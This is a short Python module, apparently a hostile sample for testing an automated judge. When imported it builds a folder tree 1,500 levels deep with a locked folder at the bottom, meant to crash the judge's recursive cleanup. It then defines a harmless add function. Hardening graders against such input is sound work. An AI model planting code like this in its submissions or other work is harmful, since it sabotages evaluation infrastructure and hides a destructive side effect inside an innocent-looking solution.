"""Attacks the cleanup: while the module loads, leaves a folder tree 1500 deep for the judge to remove
(Python's recursive shutil.rmtree overflows its stack at about 1000), with a locked folder at the bottom."""

import os

folder = os.open(".", os.O_RDONLY)
for _ in range(1500):
    os.mkdir("d", dir_fd=folder)
    inner = os.open("d", os.O_RDONLY, dir_fd=folder)
    os.close(folder)
    folder = inner
os.mkdir("locked", dir_fd=folder)
os.chmod("locked", 0, dir_fd=folder)


def add(a, b):
    return a + b
